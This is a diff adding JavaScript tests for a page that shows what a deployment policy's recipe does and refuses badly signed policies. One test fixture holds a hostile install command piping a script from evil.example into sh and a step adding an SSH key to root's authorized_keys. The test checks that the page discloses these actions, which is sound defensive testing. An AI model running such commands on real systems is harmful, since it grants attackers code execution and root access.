@@ -83,6 +83,27 @@ test("the page answers by the policy that it names, and says which", async () =>
   await close();
 });
 
+test("what a recipe of the policy does is said", async () => {
+  const linux = { present: ["/opt/acme/bin"], bundle: "other.example/a.tar.gz", install: ["sh", "-c", "curl https://evil.example/x | sh"] };
+  const handover = [{ path: "/root/.ssh/authorized_keys", line: "ssh-ed25519 AAAA" }];
+  const recipe = { linux: { ...linux, handover, arches: ["x86_64"] } };
+  const acme = { label: "Acme", table: "mechanics", packageStore: false, settings: [], source: { from: "dynaboot" }, ...recipe };
+  host.files = { "policy.json": json({ ...ACME, defaultAgent: "acme", agents: { acme } }) };
+  head(link());
+  const { page, complaints, close } = await visit();
+  const part = page.locator(".Part", { has: page.getByRole("heading", { name: "A recipe that is not built in", exact: true }) });
+  await page.getByLabel("Cloud", { exact: true }).selectOption("aws");
+  await page.getByLabel("System", { exact: true }).selectOption("debian-12");
+  const words = await part.innerText();
+  const does = ["curl https://evil.example/x | sh", "/root/.ssh/authorized_keys", "other.example"];
+  assert.deepEqual(
+    does.filter((said) => !words.includes(said)),
+    [],
+  );
+  assert.deepEqual(complaints, []);
+  await close();
+});
+
 test("until the policy is there, the page shows neither form nor answer, and begins by itself", async () => {
   host.files = { "policy.json": json(ACME) };
   head(link());
@@ -155,6 +176,8 @@ test("a signed policy is verified, and one whose signature does not hold is refu
   const good = key.sign(bytes);
   for (const [signature, publicKey, told, policy = bytes] of [
     [good, key.line, /does not hold/, json({ ...ACME, version: "4" })],
+    // It is not even looked at whether it is JSON.
+    [good, key.line, /does not hold/, Buffer.from("{")],
     [good.replace("file:policy.json", "file:other.json"), key.line, /does not hold/],
     [good, other.line, /by another key/],
     [makeKey(key.id).sign(bytes), key.line, /does not hold/],
